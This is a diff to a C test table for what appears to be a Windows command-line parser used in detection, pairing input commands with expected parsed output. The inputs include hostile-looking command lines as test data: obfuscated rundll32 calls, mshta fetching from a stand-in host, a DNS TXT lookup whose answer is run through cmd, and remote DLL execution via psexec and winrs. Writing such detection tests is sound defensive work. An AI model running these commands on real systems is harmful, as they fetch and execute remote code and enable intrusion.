@@ -236,7 +236,7 @@ static const struct {
     {"cmd /c r^u^nd\"ll\"32 C:\\Users\\Public\\a.dll,Run > nul 2>&1", NULL,
      "cmd.exe /c n:<rund\"ll\"32 C:\\Users\\Public\\a.dll,Run>"},
     {"cmd /c start \"\" /min /d C:\\x mshta https://h.example/a & echo done", NULL,
-     "cmd.exe /c N:<mshta https://h.example/a> N:<echo done>"},
+     "cmd.exe /c N:<mshta https://h.example/a> in:C:\\x N:<echo done>"},
     {"cmd.exe /c for /f \"tokens=2 delims==\" %i in ('nslookup -q^=txt step1.files.example.org "
      "203.0.113.53') do cmd /c %i",
      NULL, "cmd.exe /c n:<nslookup -q=txt step1.files.example.org 203.0.113.53> n:<cmd /c %i>"},
@@ -310,6 +310,12 @@ static const struct {
     {"cmd /c pushd \\\\h\\s & b & popd & c", NULL,
      "cmd.exe /c N:<pushd \\\\h\\s> in:\\\\h\\s N:<b> in:\\\\h\\s N:<c>"},
     {"cmd /c cd sub & b", NULL, "cmd.exe /c N:<b>"},
+    /* what is behind a launcher's own options */
+    {"psexec.exe \\\\h -u a -p b -s -d rundll32 C:\\T\\a.dll,R", NULL,
+     "psexec.exe N:<rundll32 C:\\T\\a.dll,R>"},
+    {"winrs -r:h rundll32 a.dll,R", NULL, "winrs.exe N:<rundll32 a.dll,R>"},
+    {"runas /user:a \"mmc b.msc\"", NULL, "runas.exe N:<mmc b.msc>"},
+    {"runas /user:a", NULL, "runas.exe"},
     {"powershell -c \"cd C:\\T; regsvr32 b.dll\"", NULL,
      "powershell.exe /command N:<cd C:\\T; regsvr32 b.dll> N:<regsvr32 b.dll> in:C:\\T"},
     /* calls that start a program, or write down what is to be started */
